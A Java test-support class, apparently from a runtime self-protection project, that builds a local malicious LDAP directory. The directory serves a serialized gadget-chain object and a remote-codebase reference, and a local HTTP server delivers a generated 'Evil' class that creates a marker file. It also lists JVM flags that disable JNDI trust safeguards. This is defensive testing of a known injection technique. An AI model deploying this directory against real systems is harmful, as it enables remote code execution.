package io.github.raspspring.carrier.jvm;

import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.util.Collection;
import java.util.List;

import javax.net.ssl.SSLSocketFactory;

import com.sun.net.httpserver.HttpServer;

import org.springframework.asm.ClassWriter;
import org.springframework.asm.MethodVisitor;
import org.springframework.asm.Opcodes;

/**
 * A directory of the attacker, which answers with a serialized object or with a reference
 * to code, and the server that this code is fetched from.
 */
final class EvilDirectory {

	/** JVMs that trust what directories answer, as all did when this was found. */
	static final List<String> TRUSTED = List.of("-Dcom.sun.jndi.ldap.object.trustURLCodebase=true",
			"-Dcom.sun.jndi.ldap.object.trustSerialData=true", "-Djdk.jndi.object.factoriesFilter=*",
			"-Djdk.jndi.ldap.object.factoriesFilter=*");

	private static final Libraries UNBOUNDID = Libraries.of("unboundid-ldapsdk");

	private static final String PACKAGE = "com.unboundid.ldap.listener.";

	private final int port;

	EvilDirectory(Damage damage) throws Exception {
		InetAddress host = InetAddress.getByAddress(new byte[] { 127, 0, 0, 1 });
		Class<?> listener = UNBOUNDID.load(PACKAGE + "InMemoryListenerConfig");
		Libraries.Thing configuration = UNBOUNDID.make(PACKAGE + "InMemoryDirectoryServerConfig",
				(Object) new String[] { "dc=x" });
		configuration.call("setSchema", UNBOUNDID.load("com.unboundid.ldap.sdk.schema.Schema"), null);
		configuration.call("setListenerConfigs", Collection.class,
				List.of(UNBOUNDID.type(listener.getName())
					.call("createLDAPConfig", String.class, "x", InetAddress.class, host, int.class, 0,
							SSLSocketFactory.class, null)
					.target()));
		Libraries.Thing server = UNBOUNDID.make(PACKAGE + "InMemoryDirectoryServer", configuration.target());
		add(server, "dn: dc=x", "objectClass: domain", "dc: x");
		add(server, "dn: cn=object,dc=x", "objectClass: javaSerializedObject", "cn: object", "javaClassName: x",
				"javaSerializedData:: " + GadgetChains.collections(damage));
		add(server, "dn: cn=code,dc=x", "objectClass: javaNamingReference", "cn: code", "javaClassName: Evil",
				"javaFactory: Evil", "javaCodeBase: http://127.0.0.1:" + codebase(host, damage) + "/");
		server.call("startListening");
		this.port = (Integer) server.call("getListenPort").target();
	}

	String objectUrl() {
		return "ldap://127.0.0.1:" + this.port + "/cn=object,dc=x";
	}

	String codeUrl() {
		return "ldap://127.0.0.1:" + this.port + "/cn=code,dc=x";
	}

	private static void add(Libraries.Thing server, String... lines) throws Exception {
		server.call("add", String[].class, lines);
	}

	private static int codebase(InetAddress host, Damage damage) throws Exception {
		byte[] code = code(damage.marker().toString());
		HttpServer server = HttpServer.create(new InetSocketAddress(host, 0), 0);
		server.createContext("/Evil.class", (exchange) -> {
			exchange.sendResponseHeaders(200, code.length);
			exchange.getResponseBody().write(code);
			exchange.close();
		});
		server.start();
		return server.getAddress().getPort();
	}

	/** A class that creates a file as soon as there is an object of it. */
	private static byte[] code(String marker) {
		ClassWriter writer = new ClassWriter(ClassWriter.COMPUTE_MAXS);
		writer.visit(Opcodes.V1_8, Opcodes.ACC_PUBLIC, "Evil", null, "java/lang/Object", null);
		MethodVisitor method = writer.visitMethod(Opcodes.ACC_PUBLIC, "<init>", "()V", null, null);
		method.visitCode();
		method.visitVarInsn(Opcodes.ALOAD, 0);
		method.visitMethodInsn(Opcodes.INVOKESPECIAL, "java/lang/Object", "<init>", "()V", false);
		method.visitTypeInsn(Opcodes.NEW, "java/io/File");
		method.visitInsn(Opcodes.DUP);
		method.visitLdcInsn(marker);
		method.visitMethodInsn(Opcodes.INVOKESPECIAL, "java/io/File", "<init>", "(Ljava/lang/String;)V", false);
		method.visitMethodInsn(Opcodes.INVOKEVIRTUAL, "java/io/File", "createNewFile", "()Z", false);
		method.visitInsn(Opcodes.POP);
		method.visitInsn(Opcodes.RETURN);
		method.visitMaxs(0, 0);
		method.visitEnd();
		return writer.toByteArray();
	}

}
